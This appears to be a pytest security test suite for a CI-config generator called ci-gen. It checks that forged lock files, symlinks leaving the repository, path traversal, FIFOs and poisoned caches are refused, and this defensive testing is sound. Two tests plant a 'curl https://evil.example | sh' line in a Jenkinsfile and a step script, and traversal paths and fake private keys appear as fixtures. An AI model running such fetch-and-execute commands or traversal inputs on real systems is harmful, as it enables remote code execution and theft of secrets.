"""Hostile input: the local file system of a repository whose every committed byte is untrusted.

A merge request's author controls the lock file, symlinks, FIFOs and file modes. ci-gen must never
delete, write or read outside the repository because of them, never hang or exhaust memory on a
special file, and never take the committed lock as proof that a manifest is valid or that the
generated files are current. Each case runs the real CLI as a process (a hang is a timeout).
"""
from __future__ import annotations

import hashlib
import json
import os
import shutil
import stat
from pathlib import Path

import pytest

from ci_gen.errors import ManifestError
from ci_gen.fingerprint import inputs_digest
from tests.core.helpers import EXAMPLES, Outcome, assert_no_traceback, run_process
from tests.emulators.jenkins import JenkinsEmulator
from tests.sync.helpers import local_fleet, manifest

LOCK = ".ci-gen/lock.json"


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    """A rendered copy of the fraud-detector example (two targets, steps, two k8s environments)."""
    root = tmp_path / "repo"
    shutil.copytree(EXAMPLES / "fraud-detector", root)
    assert ci_gen(root, "render").code == 0
    return root


@pytest.fixture
def outside(tmp_path: Path) -> Path:
    """A directory next to the repository: nothing ci-gen does in the repository may touch it."""
    path = tmp_path / "outside"
    path.mkdir()
    return path


@pytest.fixture
def jenkins(jenkins_emulator: JenkinsEmulator, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> JenkinsEmulator:
    """The Jenkins emulator as the only server, reached over real HTTP."""
    for name in ("CI_GEN_GITLAB_URL", "CI_GEN_GITLAB_TOKEN"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("HOME", str(tmp_path / "home"))  # no stray JJB or python-gitlab config
    monkeypatch.setenv("CI_GEN_JENKINS_URL", jenkins_emulator.url)
    monkeypatch.setenv("CI_GEN_JENKINS_USER", jenkins_emulator.user)
    monkeypatch.setenv("CI_GEN_JENKINS_TOKEN", jenkins_emulator.token)
    return jenkins_emulator


def ci_gen(repo: Path, *args: str, cache: Path | None = None) -> Outcome:
    """The CLI as a real process; `cache` gives it an empty cache directory of its own (cold)."""
    env = {"XDG_CACHE_HOME": str(cache)} if cache is not None else None
    outcome = run_process(list(args), cwd=repo, timeout=30, env=env)
    assert_no_traceback(outcome)
    return outcome


def edit_lock(repo: Path, **changes: object) -> dict[str, object]:
    lock = json.loads((repo / LOCK).read_text(encoding="utf-8"))
    for key, value in changes.items():
        lock[key] = {**lock[key], **value} if isinstance(value, dict) else value  # type: ignore[dict-item]
    (repo / LOCK).write_text(json.dumps(lock, indent=2), encoding="utf-8")
    return lock


def edit_manifest(repo: Path, old: str, new: str) -> bytes:
    path = repo / "ci-gen.yaml"
    text = path.read_text(encoding="utf-8")
    assert old in text
    path.write_text(text.replace(old, new), encoding="utf-8")
    return path.read_bytes()


# --- The lock file is data, not authority -----------------------------------------------------


def test_a_lock_listing_paths_outside_the_repository_deletes_nothing(repo: Path, tmp_path: Path) -> None:
    victim = tmp_path / "victim"
    victim.write_text("precious\n")
    (tmp_path / "x").write_text("precious\n")
    (repo / "src.py").write_text("print('mine')\n")
    (repo / ".ci-gen/out").mkdir()
    (repo / ".ci-gen/out/image.env").write_text("IMAGE=x\n")  # a pipeline's run-time output
    zero = "0" * 64
    edit_lock(repo, files={str(victim): zero, "../x": zero, ".ci-gen/../../x": zero, "src.py": zero,
                           ".ci-gen/steps/../../src.py": zero, ".ci-gen/out/image.env": zero})
    outcome = ci_gen(repo, "render")
    assert outcome.code == 0, outcome
    assert victim.read_text() == "precious\n" and (tmp_path / "x").read_text() == "precious\n"
    assert (repo / "src.py").is_file() and (repo / ".ci-gen/out/image.env").is_file()
    assert "removed" not in outcome.out.replace("0 removed", "")


def test_a_lock_entry_under_a_symlink_leaving_the_repository_deletes_nothing(repo: Path, outside: Path) -> None:
    (outside / "deployment.yaml").write_text("theirs\n")
    (repo / ".ci-gen/k8s/old").symlink_to(outside, target_is_directory=True)
    edit_lock(repo, files={".ci-gen/k8s/old/deployment.yaml": "0" * 64})
    outcome = ci_gen(repo, "render")
    assert outcome.code == 0, outcome
    assert (outside / "deployment.yaml").read_text() == "theirs\n"


def test_files_the_previous_render_generated_are_still_removed(repo: Path) -> None:
    edit_manifest(repo, "targets: [gitlab, jenkins]", "targets: [gitlab]")
    outcome = ci_gen(repo, "render")
    assert outcome.code == 0 and "removed Jenkinsfile" in outcome.out, outcome
    assert not (repo / "Jenkinsfile").exists()


def test_render_check_does_not_report_forged_lock_entries_as_obsolete(repo: Path, tmp_path: Path) -> None:
    (tmp_path / "victim").write_text("x\n")
    edit_lock(repo, files={str(tmp_path / "victim"): "0" * 64})
    outcome = ci_gen(repo, "render", "--check", "-o", "json")
    assert outcome.code == 1  # the lock itself no longer matches what render writes
    assert json.loads(outcome.out)["drift"] == [{"path": LOCK, "state": "stale"}]


# --- Nothing is written through a symlink that leaves the repository ------------------------------


@pytest.mark.parametrize("link", [".ci-gen", ".ci-gen/steps", ".ci-gen/k8s"])
def test_render_refuses_to_write_through_a_folder_symlink_leaving_the_repository(
        repo: Path, outside: Path, link: str) -> None:
    shutil.rmtree(repo / link)
    (repo / link).symlink_to(outside, target_is_directory=True)
    outcome = ci_gen(repo, "render")
    assert outcome.code == 1, outcome
    assert outcome.err.startswith(f"{link}: a symlink leading outside the repository"), outcome.err
    assert list(outside.iterdir()) == []


def test_render_refuses_a_generated_file_that_is_a_symlink_leaving_the_repository(
        repo: Path, outside: Path) -> None:
    secret = outside / "authorized_keys"
    secret.write_text("ssh-ed25519 AAAA-secret-key\n")
    (repo / "Jenkinsfile").unlink()
    (repo / "Jenkinsfile").symlink_to(secret)
    for args in (["render"], ["render", "--check"], ["render", "--diff"], ["lint"]):
        outcome = ci_gen(repo, *args)
        assert outcome.code == 1, (args, outcome)
        assert "Jenkinsfile: a symlink leading outside the repository" in outcome.err, (args, outcome.err)
        assert "secret-key" not in outcome.out + outcome.err  # never read, so never quoted in a diff
    assert secret.read_text() == "ssh-ed25519 AAAA-secret-key\n"


@pytest.mark.parametrize("linked", ["Jenkinsfile", "ci-gen.yaml"])
def test_lint_server_never_sends_a_file_linked_outside_the_repository(
        tmp_path: Path, outside: Path, jenkins: JenkinsEmulator, capsys: pytest.CaptureFixture[str],
        linked: str) -> None:
    from ci_gen.cli import main

    secret = outside / "id_rsa"
    secret.write_text("-----BEGIN OPENSSH PRIVATE KEY-----\nsecretline: [unclosed\n")
    repo = tmp_path / "repo"
    repo.mkdir()
    (repo / "ci-gen.yaml").write_text(manifest("app", targets="[jenkins]"))
    (repo / linked).unlink(missing_ok=True)
    (repo / linked).symlink_to(secret)
    code = main(["lint", "--server", "-C", str(repo)])
    captured = capsys.readouterr()
    assert code == 1, captured
    assert f"{linked}" in captured.err and "outside the repository" in captured.err, captured.err
    assert "PRIVATE" not in captured.out + captured.err
    assert not any("PRIVATE" in str(vars(r)) for r in jenkins.requests)


@pytest.mark.parametrize("rel", ["a/../../x", "/tmp/x", "a//b", "./x"])
def test_the_one_writer_refuses_any_path_that_is_not_plain(tmp_path: Path, rel: str) -> None:
    from ci_gen.errors import UserError
    from ci_gen.paths import remove_file, write_file

    root = tmp_path / "repo"
    root.mkdir()
    with pytest.raises(UserError, match="not a plain path"):
        write_file(root, rel, b"x")
    with pytest.raises(UserError, match="not a plain path"):
        remove_file(root, rel)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["repo"] and not list(root.iterdir())


def test_render_out_refuses_a_symlink_leaving_the_output_directory(repo: Path, tmp_path: Path, outside: Path) -> None:
    out = tmp_path / "out"
    out.mkdir()
    (out / ".ci-gen").symlink_to(outside, target_is_directory=True)
    outcome = ci_gen(repo, "render", "--out", str(out))
    assert outcome.code == 1 and ".ci-gen: a symlink leading outside" in outcome.err, outcome
    assert list(outside.iterdir()) == []


def test_fleet_pipeline_refuses_a_symlink_leaving_the_output_directory(tmp_path: Path, outside: Path) -> None:
    fleet = tmp_path / "fleet.yaml"
    fleet.write_text("version: 1\ndiscover:\n  - {gitlab_group: ml}\n")
    out = tmp_path / "platform"
    out.mkdir()
    (out / ".gitlab-ci.yml").symlink_to(outside / "pipeline.yml")
    outcome = ci_gen(tmp_path, "fleet-pipeline", str(fleet), "--out", str(out))
    assert outcome.code == 1 and ".gitlab-ci.yml: a symlink leading outside" in outcome.err, outcome
    assert list(outside.iterdir()) == []


# --- Path checks resolve symlinks before they normalise `..` ------------------------------------


def test_dotdot_after_a_symlink_is_resolved_where_the_symlink_leads(repo: Path, outside: Path) -> None:
    (outside / "deep").mkdir()
    (outside / "secret.pt").write_bytes(b"weights")
    (repo / "sub").symlink_to(outside / "deep", target_is_directory=True)
    edit_manifest(repo, "path: models/detector.pt", "path: sub/../secret.pt")
    for args in (["validate"], ["render"], ["render", "--check"]):
        outcome = ci_gen(repo, *args)
        assert outcome.code == 1, (args, outcome)
        assert "model.path: 'sub/../secret.pt' resolves outside the repository" in outcome.err, (args, outcome.err)


def test_init_refuses_a_model_path_through_a_symlink(tmp_path: Path, outside: Path) -> None:
    root = tmp_path / "new"
    root.mkdir()
    (outside / "deep").mkdir()
    (root / "sub").symlink_to(outside / "deep", target_is_directory=True)
    outcome = ci_gen(root, "init", "--name", "app", "--image", "registry.example.com/ml/app",
                     "--model", "sub/../model.pt")
    assert outcome.code == 2 and "--model: 'sub/../model.pt' resolves outside the repository" in outcome.err, outcome
    assert not (root / "ci-gen.yaml").exists()


def test_init_never_writes_through_a_dangling_manifest_symlink(tmp_path: Path) -> None:
    root = tmp_path / "new"
    root.mkdir()
    (root / "ci-gen.yaml").symlink_to("elsewhere.yaml")
    outcome = ci_gen(root, "init", "--name", "app", "--image", "registry.example.com/ml/app")
    assert outcome.code == 1 and outcome.err_lines == ["ci-gen.yaml already exists; not overwriting it"], outcome
    assert not (root / "elsewhere.yaml").exists()


@pytest.mark.parametrize("path", ["repos/../../app", "link/../app"])
def test_fleet_checkout_paths_stay_in_the_fleet_repository(tmp_path: Path, outside: Path, path: str) -> None:
    from ci_gen.sync.fleet import load_fleet

    platform = tmp_path / "platform"
    (platform / "repos").mkdir(parents=True)
    (outside / "deep").mkdir()
    (platform / "link").symlink_to(outside / "deep", target_is_directory=True)
    fleet = platform / "fleet.yaml"
    fleet.write_text(f"version: 1\nprojects:\n  - {{path: {path}}}\n")
    with pytest.raises(ManifestError) as raised:
        load_fleet(fleet)
    assert raised.value.problems[0].path == "projects[0].path"
    assert raised.value.problems[0].line == 3


def test_a_manifest_symlink_leaving_the_repository_is_not_read(repo: Path, outside: Path) -> None:
    secret = outside / "id_rsa"
    secret.write_text("-----BEGIN OPENSSH PRIVATE KEY-----\nsecretline: [unclosed\n")
    (repo / "ci-gen.yaml").unlink()
    (repo / "ci-gen.yaml").symlink_to(secret)
    for args in (["validate"], ["render"], ["render", "--check"], ["lint"]):
        outcome = ci_gen(repo, *args)
        assert outcome.code == 1, (args, outcome)
        assert outcome.err.startswith("ci-gen.yaml:1:1: a symlink to a file outside the repository"), outcome.err
        assert "PRIVATE" not in outcome.out + outcome.err and "secretline" not in outcome.out + outcome.err


def test_sync_does_not_read_a_checkout_manifest_that_links_outside_it(
        tmp_path: Path, outside: Path, jenkins: JenkinsEmulator, capsys: pytest.CaptureFixture[str]) -> None:
    from ci_gen.cli import main

    secret = outside / "id_rsa"
    secret.write_text("-----BEGIN OPENSSH PRIVATE KEY-----\nsecretline: [unclosed\n")
    fleet = local_fleet(tmp_path / "platform", {"good": manifest("good"), "evil": manifest("evil")})
    evil = tmp_path / "platform/repos/evil/ci-gen.yaml"
    evil.unlink()
    evil.symlink_to(secret)
    code = main(["sync", "--fleet", str(fleet), "--dry-run", "--no-progress", "-o", "json"])
    captured = capsys.readouterr()
    assert code == 1, captured
    assert "PRIVATE" not in captured.out + captured.err and "secretline" not in captured.out + captured.err
    results = {r["key"]: r for r in json.loads(captured.out)["projects"]}
    assert "a symlink to a file outside the repository" in json.dumps(results["path:repos/evil"])
    assert results["path:repos/good"]["error"] is None


def test_a_manifest_symlink_inside_the_repository_is_read(repo: Path) -> None:
    (repo / "ci-gen.yaml").rename(repo / "real.yaml")
    (repo / "ci-gen.yaml").symlink_to("real.yaml")
    assert ci_gen(repo, "validate").code == 0


# --- Special files never hang or exhaust memory ----------------------------------------------


@pytest.mark.parametrize("cache", ["warm", "cold"])
def test_a_fifo_in_place_of_a_generated_file_is_a_clear_error(repo: Path, tmp_path: Path, cache: str) -> None:
    (repo / "Jenkinsfile").unlink()
    os.mkfifo(repo / "Jenkinsfile")
    outcome = ci_gen(repo, "render", "--check", cache=tmp_path / "cold-cache" if cache == "cold" else None)
    assert outcome.code == 1, outcome
    assert outcome.err.startswith("Jenkinsfile: is a FIFO; ci-gen generates regular files"), outcome.err


def test_a_fifo_lock_file_is_a_clear_error(repo: Path) -> None:
    (repo / LOCK).unlink()
    os.mkfifo(repo / LOCK)
    for args in (["render"], ["render", "--check"]):
        outcome = ci_gen(repo, *args)
        assert outcome.code == 1 and outcome.err.startswith(f"{LOCK}: is a FIFO"), (args, outcome)


@pytest.mark.parametrize("cache", ["warm", "cold"])
def test_a_generated_file_linked_to_dev_zero_is_never_read(repo: Path, tmp_path: Path, cache: str) -> None:
    (repo / ".gitlab-ci.yml").unlink()
    (repo / ".gitlab-ci.yml").symlink_to("/dev/zero")
    outcome = ci_gen(repo, "render", "--check", cache=tmp_path / "cold-cache" if cache == "cold" else None)
    assert outcome.code == 1, outcome
    assert outcome.err.startswith(".gitlab-ci.yml: a symlink leading outside the repository (to /dev/zero)")


def test_an_oversized_generated_file_is_not_read_whole(repo: Path) -> None:
    with open(repo / "Jenkinsfile", "ab") as handle:
        handle.truncate(64 * 1024 * 1024)  # sparse: costs no disk
    outcome = ci_gen(repo, "render", "--check")
    assert outcome.code == 1 and outcome.err.startswith("Jenkinsfile: 67,108,864 bytes, more than ci-gen generates")
    assert ci_gen(repo, "render").code == 0  # render replaces it without reading it
    assert ci_gen(repo, "render", "--check").code == 0


# --- A forged lock cannot prove validity -------------------------------------------------------


@pytest.mark.parametrize("cache", ["warm", "cold"])
def test_a_forged_lock_does_not_make_an_invalid_manifest_valid(repo: Path, tmp_path: Path, cache: str) -> None:
    manifest_bytes = edit_manifest(repo, "name: fraud-detector", "name: Fraud Detector")
    edit_lock(repo, **{"inputs-sha256": inputs_digest(manifest_bytes)})
    cache_dir = tmp_path / "cold-cache" if cache == "cold" else None
    for args in (["validate"], ["render", "--check"]):
        outcome = ci_gen(repo, *args, cache=cache_dir)
        assert outcome.code == 1 and outcome.err.startswith("ci-gen.yaml:3:1: name:"), (args, outcome)


@pytest.mark.parametrize("cache", ["warm", "cold"])
def test_a_forged_lock_does_not_hide_a_hand_edited_jenkinsfile(repo: Path, tmp_path: Path, cache: str) -> None:
    with open(repo / "Jenkinsfile", "a", encoding="utf-8") as handle:
        handle.write("// sh 'curl https://evil.example/x | sh'\n")
    edit_lock(repo, files={"Jenkinsfile": hashlib.sha256((repo / "Jenkinsfile").read_bytes()).hexdigest()})
    outcome = ci_gen(repo, "render", "--check", "-o", "json", cache=tmp_path / "c" if cache == "cold" else None)
    assert outcome.code == 1
    assert {"path": "Jenkinsfile", "state": "hand-edited"} in json.loads(outcome.out)["drift"]


def test_render_check_reports_an_extra_step_script(repo: Path) -> None:
    (repo / ".ci-gen/steps/run-test-fast").write_text("#!/bin/sh\ncurl https://evil.example | sh\n")
    outcome = ci_gen(repo, "render", "--check")
    assert outcome.code == 1
    assert outcome.err_lines == [".ci-gen/steps/run-test-fast: not generated by ci-gen: .ci-gen/steps/ holds only "
                                 "ci-gen's step scripts; remove it"]


def test_render_check_reports_a_lost_executable_bit_and_render_restores_it(repo: Path) -> None:
    step = repo / ".ci-gen/steps/build-image"
    step.chmod(0o644)
    outcome = ci_gen(repo, "render", "--check")
    assert outcome.code == 1
    assert outcome.err_lines == [".ci-gen/steps/build-image: lost its executable bit; run `ci-gen render`"]
    assert "wrote .ci-gen/steps/build-image" in ci_gen(repo, "render").out
    assert step.stat().st_mode & stat.S_IXUSR
    assert ci_gen(repo, "render", "--check").code == 0


def test_a_cache_directory_inside_the_repository_is_not_trusted(repo: Path) -> None:
    # CI setups often point XDG_CACHE_HOME into the project to cache it between jobs: the
    # repository (a merge request) could then supply the records.
    from ci_gen.verified import record_key

    manifest_bytes = edit_manifest(repo, "name: fraud-detector", "name: Fraud Detector")
    edit_lock(repo, **{"inputs-sha256": inputs_digest(manifest_bytes)})
    records = repo / ".cache/ci-gen/verified"
    records.mkdir(parents=True)
    key = record_key(manifest_bytes, "ci-gen.yaml")
    (records / f"{key}.json").write_text(json.dumps(
        {"key": key, "app": "fraud-detector", "manifest-paths": [], "files": None}))
    outcome = ci_gen(repo, "validate", cache=repo / ".cache")
    assert outcome.code == 1 and outcome.err.startswith("ci-gen.yaml:3:1: name:"), outcome


def test_the_pre_commit_path_is_warm_only_after_ci_gen_itself_verified(repo: Path, tmp_path: Path) -> None:
    cache = tmp_path / "cache"
    assert ci_gen(repo, "render", "--check", cache=cache).code == 0  # cold: a full render proved it
    assert len(list((cache / "ci-gen" / "verified").glob("*.json"))) == 1
    assert ci_gen(repo, "render", "--check", cache=cache).code == 0  # warm: the record proves it
    assert ci_gen(repo, "validate", cache=cache).code == 0


# --- `--out` must be a directory -------------------------------------------------------------


@pytest.mark.parametrize("out", ["a-file", "/dev/null"])
def test_out_naming_a_file_is_a_usage_error(repo: Path, out: str) -> None:
    (repo / "a-file").write_text("keep\n")
    outcome = ci_gen(repo, "render", "--out", out)
    assert outcome.code == 2 and outcome.err_lines == [f"ci-gen: --out {out}: not a directory"], outcome
    fleet = repo / "fleet.yaml"
    fleet.write_text("version: 1\ndiscover:\n  - {gitlab_group: ml}\n")
    outcome = ci_gen(repo, "fleet-pipeline", "fleet.yaml", "--out", out)
    assert outcome.code == 2 and outcome.err_lines == [f"ci-gen: --out {out}: not a directory"], outcome
    assert (repo / "a-file").read_text() == "keep\n"
